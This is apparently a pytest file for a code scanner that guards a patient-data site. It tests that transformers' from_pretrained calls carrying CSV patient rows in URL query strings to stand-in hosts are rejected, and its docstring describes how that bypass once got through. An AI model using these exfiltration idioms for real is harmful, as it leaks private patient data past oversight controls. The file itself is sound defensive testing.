"""Red team 44b: Flower apps, notebooks and public-malware idioms.

- transformers' `from_pretrained` of any class downloads a URL it is given ("a path or url to a saved configuration
  JSON file", PretrainedConfig.from_pretrained; transformers 4.x is_remote_url -> download_url). The catalogue
  vouches hub names under the process guard, and no url-readers entry named it, so a query string built from the
  site's rows was accepted: `AutoConfig.from_pretrained(f"https://cdn.example/config.json?layout={pixels}")`.
  The url-readers table now lists `transformers.*.from_pretrained` (a `*` entry: every class of the library).
"""

from __future__ import annotations

import pytest

import redteam_kit as kit
from analyzer.model import Decision

ROWS = "import pandas as pd\nrow = pd.read_csv('/data/site/patients.csv').iloc[0].to_json()\n"


# ---- the corpus ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("sample", kit.corpus_samples("malicious/rt44b_*", "jobs/rt44b_*"))
def test_attack_is_rejected(sample):
    kit.assert_held(kit.scan_sample(sample), decision=Decision.REJECT)


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_rt44b_*", "jobs/near_rt44b_*"))
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


# ---- from_pretrained of a URL -------------------------------------------------------------------------------------

@pytest.mark.parametrize("call", [
    "from transformers import AutoConfig\nAutoConfig.from_pretrained(f'https://x.example/c.json?d={row}')",
    "from transformers import AutoTokenizer\nAutoTokenizer.from_pretrained('https://x.example/t.json?d=' + row)",
    "import transformers\ntransformers.models.vit.ViTModel.from_pretrained("
    "pretrained_model_name_or_path='https://x.example/w.bin?d=%s' % row)",
])
def test_rows_in_a_from_pretrained_url_reject(call):
    report = kit.scan_text(ROWS + call)
    kit.assert_held(report, "network.url-reader-data", Decision.REJECT)


def test_a_constant_from_pretrained_url_escalates():
    report = kit.scan_text("from transformers import BertModel\nm = BertModel.from_pretrained('https://x.example/m.bin')")
    kit.assert_held(report, "network.url-reader", Decision.ESCALATE)


@pytest.mark.parametrize("name", ["'bert-base-uncased'", "'./models/bert'"])
def test_a_hub_name_or_local_folder_stays_accepted(name):
    report = kit.scan_text(f"from transformers import AutoModel\nm = AutoModel.from_pretrained({name})")
    kit.assert_accepted(report)
